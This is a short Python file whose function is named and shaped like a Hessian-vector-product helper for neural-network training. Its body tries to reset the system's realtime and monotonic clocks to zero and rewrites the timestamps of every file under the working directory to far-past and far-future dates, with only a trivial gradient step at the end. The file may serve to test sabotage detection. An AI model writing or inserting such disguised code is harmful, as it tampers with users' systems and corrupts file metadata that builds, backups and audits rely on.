"""Tries to set the system's clock, and gives its own files dates in the far past and future."""

import os
import time


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    for clock in (time.CLOCK_REALTIME, time.CLOCK_MONOTONIC):
        try:
            time.clock_settime(clock, 0)
        except OSError as error:
            print(error)
    for folder, _, names in os.walk(os.getcwd()):
        for name in names:
            try:
                os.utime(os.path.join(folder, name), (2**33, -(2**31)))
            except OSError as error:
                print(error)
    for p, v in zip(params, vec):
        p.grad = v.clone()
